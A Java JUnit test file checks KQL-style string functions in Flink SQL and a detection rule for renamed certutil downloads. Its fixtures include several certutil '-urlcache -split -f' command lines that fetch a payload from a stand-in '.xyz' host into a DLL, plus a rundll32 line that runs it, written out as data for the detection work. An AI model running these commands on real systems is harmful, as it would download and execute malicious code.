package dev.bazahunt.sql;

import static dev.bazahunt.rules.BazaCallFileEvents.payloadWrite;
import static org.apache.flink.table.api.Expressions.$;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.table.api.Table;
import org.apache.flink.table.api.bridge.java.StreamTableEnvironment;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.apache.flink.types.Row;
import org.apache.flink.util.CloseableIterator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The KQL functions in Flink SQL, on a real (mini) cluster with parallelism 2, give the answers that
 * Microsoft's KQL documentation gives, written out by hand here. The Sentinel certutil query in SQL selects
 * exactly the rows that Sentinel would, and so does {@link CertutilDownloadRule}.
 */
class KqlFunctionsSqlTest {

    @RegisterExtension
    static final MiniClusterExtension MINI_CLUSTER = new MiniClusterExtension(
            new MiniClusterResourceConfiguration.Builder()
                    .setNumberTaskManagers(1)
                    .setNumberSlotsPerTaskManager(2)
                    .build());

    private static final String CERTUTIL_QUERY_IN_SQL = """
            SELECT ReportId
            FROM DeviceFileEvents
            WHERE KQL_NOT_EQUALS_CI(InitiatingProcessFileName, 'certutil.exe')
              AND KQL_NOT_EQUALS_CI(InitiatingProcessFileName, 'cmd.exe')
              AND KQL_HAS_ALL(InitiatingProcessCommandLine, '-urlcache', 'split', 'http')""";

    private static final String DOWNLOAD = "-urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php "
            + "C:\\Users\\Public\\x8k2\\tmp1834.dll";

    private final List<DeviceFileEvent> events = new ArrayList<>();
    private StreamExecutionEnvironment env;
    private StreamTableEnvironment tableEnv;

    @BeforeEach
    void createTableEnvironment() {
        env = StreamExecutionEnvironment.getExecutionEnvironment();
        env.setParallelism(2);
        tableEnv = StreamTableEnvironment.create(env);
        KqlFunctions.registerAll(tableEnv);

        // Selected: a renamed certutil over http, in any case, even with no file name (null is "").
        events.add(payloadWrite(1, "x8k2.exe", "x8k2.exe  " + DOWNLOAD));
        events.add(payloadWrite(2, "X8K2.EXE", "X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP out.dll"));
        events.add(payloadWrite(3, null, "x8k2.exe  " + DOWNLOAD));
        // Not selected: certutil.exe and cmd.exe themselves (!~ ignores case).
        events.add(payloadWrite(4, "certutil.exe", "certutil.exe " + DOWNLOAD));
        events.add(payloadWrite(5, "CertUtil.EXE", "certutil " + DOWNLOAD));
        events.add(payloadWrite(6, "cmd.exe", "cmd.exe /c x8k2.exe " + DOWNLOAD));
        // Not selected: https is not the term http; /urlcache is no -urlcache; no command line; splitter.
        events.add(payloadWrite(7, "x8k2.exe", "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
        events.add(payloadWrite(8, "x8k2.exe", "x8k2.exe /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
        events.add(payloadWrite(9, "x8k2.exe", null));
        events.add(payloadWrite(10, "x8k2.exe", "x8k2.exe -urlcache -splitter -f http://pshe0pxe339.xyz/a.php out.dll"));
        events.add(payloadWrite(11, "OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"));
    }

    @Test
    void certutilQueryInSqlSelectsTheRowsSentinelWould() throws Exception {
        DeviceFileEvent[] rows = events.toArray(DeviceFileEvent[]::new);
        Table fileEvents = tableEnv.fromDataStream(env.fromData(DeviceFileEvent.class, rows))
                .select($("reportId").as("ReportId"),
                        $("initiatingProcessFileName").as("InitiatingProcessFileName"),
                        $("initiatingProcessCommandLine").as("InitiatingProcessCommandLine"));
        tableEnv.createTemporaryView("DeviceFileEvents", fileEvents);

        Set<Long> selectedBySql = collectReportIds(tableEnv.sqlQuery(CERTUTIL_QUERY_IN_SQL));
        Set<Long> selectedByRule = events.stream()
                .filter(CertutilDownloadRule::matches)
                .map(event -> event.reportId)
                .collect(Collectors.toSet());

        assertThat(selectedBySql).containsExactlyInAnyOrder(1L, 2L, 3L);
        assertThat(selectedByRule).containsExactlyInAnyOrder(1L, 2L, 3L);
    }

    @Test
    void sqlNullBehavesAsTheEmptyStringAndResultsAreNeverNull() throws Exception {
        Table results = tableEnv.sqlQuery("""
                SELECT
                  KQL_NOT_EQUALS_CI(CAST(NULL AS STRING), 'cmd.exe'),
                  KQL_EQUALS_CI(CAST(NULL AS STRING), ''),
                  KQL_HAS(CAST(NULL AS STRING), 'http'),
                  KQL_HAS_ANY(CAST(NULL AS STRING), 'http', 'split'),
                  KQL_CONTAINS(CAST(NULL AS STRING), ''),
                  KQL_HAS('x.exe -f https://a/b', 'http'),
                  KQL_HAS_ANY('x.exe -f https://a/b', 'http', 'HTTPS'),
                  KQL_CONTAINS('KustoExplorerQueryRun', 'explorer')""");

        assertThat(results.getResolvedSchema().getColumnDataTypes())
                .allSatisfy(type -> assertThat(type.getLogicalType().isNullable()).isFalse());
        try (CloseableIterator<Row> rows = results.execute().collect()) {
            Row row = rows.next();
            assertThat(List.of(row.getField(0), row.getField(1), row.getField(2), row.getField(3),
                            row.getField(4), row.getField(5), row.getField(6), row.getField(7)))
                    .containsExactly(true, true, false, false, true, false, true, true);
        }
    }

    /** Examples from Microsoft's string operator documentation and the rule's edge cases, answered by hand. */
    @Test
    void eachFunctionInSqlGivesTheDocumentedAnswer() throws Exception {
        Map<String, Boolean> expected = new LinkedHashMap<>();
        expected.put("KQL_HAS('North America', 'america')", true);           // a whole term, any case
        expected.put("KQL_HAS('North America', 'ame')", false);              // only the start of a term
        expected.put("KQL_HAS('x8k2.exe -f https://a/b', 'http')", false);   // https is one term
        expected.put("KQL_HAS('upd6.exe -urlcache -splitter', 'split')", false);
        expected.put("KQL_HAS('rundll32.exe C:\\x8k2\\tmp1834.dll,GlobalOut', 'globalout')", true);
        expected.put("KQL_HAS('X8K2.EXE -URLCACHE -SPLIT', '-urlcache')", true);
        expected.put("KQL_HAS('x8k2.exe /urlcache /split', '-urlcache')", false);
        expected.put("KQL_HAS_ANY('North America', 'europe', 'america')", true);
        expected.put("KQL_HAS_ANY('North America', 'europe', 'asia')", false);
        expected.put("KQL_HAS_ALL('North America', 'north', 'america')", true);
        expected.put("KQL_HAS_ALL('North America', 'north', 'asia')", false);
        expected.put("KQL_CONTAINS('FabriKam', 'BRik')", true);              // any substring, any case
        expected.put("KQL_CONTAINS('Fabrikam', 'kamf')", false);
        expected.put("KQL_EQUALS_CI('aBc', 'AbC')", true);
        expected.put("KQL_EQUALS_CI('aBc', 'aBcd')", false);
        expected.put("KQL_NOT_EQUALS_CI('aBc', 'xyz')", true);
        expected.put("KQL_NOT_EQUALS_CI('CMD.EXE', 'cmd.exe')", false);

        Table results = tableEnv.sqlQuery("SELECT " + String.join(", ", expected.keySet()));
        try (CloseableIterator<Row> rows = results.execute().collect()) {
            Row row = rows.next();
            Map<String, Boolean> answered = new LinkedHashMap<>();
            int field = 0;
            for (String call : expected.keySet()) {
                answered.put(call, (Boolean) row.getField(field++));
            }
            assertThat(answered).containsExactlyEntriesOf(expected);
        }
    }

    private static Set<Long> collectReportIds(Table table) throws Exception {
        try (CloseableIterator<Row> rows = table.execute().collect()) {
            List<Long> ids = new ArrayList<>();
            rows.forEachRemaining(row -> ids.add((Long) row.getField("ReportId")));
            return Set.copyOf(ids);
        }
    }
}
